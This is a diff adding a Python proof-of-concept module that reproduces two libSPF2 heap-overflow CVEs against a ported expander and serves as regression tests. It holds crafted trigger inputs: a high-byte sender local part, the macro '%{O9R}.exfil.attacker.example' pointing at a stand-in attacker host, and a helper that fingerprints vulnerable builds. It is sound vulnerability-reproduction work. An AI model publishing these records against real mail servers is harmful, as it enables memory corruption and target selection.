@@ -1,0 +1,118 @@
+"""Proof-of-concept triggers for the two libSPF2 CVEs.
+
+These functions run the ported expansion the way a mail server running
+vulnerable libSPF2 would when processing an attacker-published SPF record,
+and report the memory-safety outcome.  They are the reproduction's
+equivalent of the crash PoCs referenced in the paper's disclosure, and
+they double as regression tests for the patched code path.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Dict, Optional
+
+from .expand import ExpansionOutcome, LibSpf2Expander
+
+
+@dataclass
+class PocReport:
+    """The result of running one PoC against one library build."""
+
+    cve: str
+    macro_string: str
+    sender: str
+    outcome: ExpansionOutcome
+    patched: bool
+
+    @property
+    def triggered(self) -> bool:
+        """True if the PoC corrupted memory."""
+        return not self.outcome.memory_safe
+
+    def summary(self) -> str:
+        state = "patched" if self.patched else "vulnerable"
+        verdict = (
+            "heap overflow"
+            + (" + crash" if self.outcome.crashed else " (silent corruption)")
+            if self.triggered
+            else "memory safe"
+        )
+        return f"{self.cve} vs {state} libSPF2: {verdict}"
+
+
+def _values_for(sender: str, domain: str) -> Dict[str, str]:
+    local, _, sender_domain = sender.partition("@")
+    return {
+        "s": sender,
+        "l": local,
+        "o": sender_domain,
+        "d": domain,
+        "i": "192.0.2.66",
+        "h": "attacker.example",
+        "p": "unknown",
+        "v": "in-addr",
+        "c": "192.0.2.66",
+        "r": "victim.example",
+        "t": "0",
+    }
+
+
+def trigger_cve_2021_33912(*, patched: bool = False) -> PocReport:
+    """URL-encoding ``sprintf`` overflow.
+
+    The attacker controls the MAIL FROM local part, puts bytes in
+    ``0x80``-``0xFF`` in it, and publishes an SPF record whose macro
+    URL-encodes that local part (uppercase ``%{L}``).  Each high byte
+    makes the vulnerable ``sprintf`` emit 6 more bytes than were sized.
+    """
+    sender = "caféüß@attacker.example"  # local part with high bytes
+    macro_string = "%{L}._spf.attacker.example"
+    expander = LibSpf2Expander(patched=patched)
+    values = _values_for(sender, "victim-policy.example")
+    outcome = expander.expand(macro_string, lambda letter: values[letter])
+    return PocReport(
+        cve="CVE-2021-33912",
+        macro_string=macro_string,
+        sender=sender,
+        outcome=outcome,
+        patched=patched,
+    )
+
+
+def trigger_cve_2021_33913(*, patched: bool = False) -> PocReport:
+    """Buffer-length reassignment overflow.
+
+    A macro that specifies both label reversal and URL encoding makes the
+    vulnerable code allocate from a clobbered length field, so the write
+    pass runs up to ~100 attacker-controlled bytes past the allocation.
+    """
+    sender = (
+        "user@" + ".".join(f"label{i:02d}" for i in range(12)) + ".attacker.example"
+    )
+    macro_string = "%{O9R}.exfil.attacker.example"
+    expander = LibSpf2Expander(patched=patched)
+    values = _values_for(sender, sender.partition("@")[2])
+    outcome = expander.expand(macro_string, lambda letter: values[letter])
+    return PocReport(
+        cve="CVE-2021-33913",
+        macro_string=macro_string,
+        sender=sender,
+        outcome=outcome,
+        patched=patched,
+    )
+
+
+def fingerprint_for(domain: str, *, patched: bool = False) -> str:
+    """The ``%{d1r}`` expansion a libSPF2 build produces for ``domain``.
+
+    This is the paper's Section 4.2 example in function form:
+
+    >>> fingerprint_for("example.com")
+    'com.com.example'
+    >>> fingerprint_for("example.com", patched=True)
+    'example'
+    """
+    expander = LibSpf2Expander(patched=patched)
+    outcome = expander.expand("%{d1r}", lambda letter: domain)
+    return outcome.output
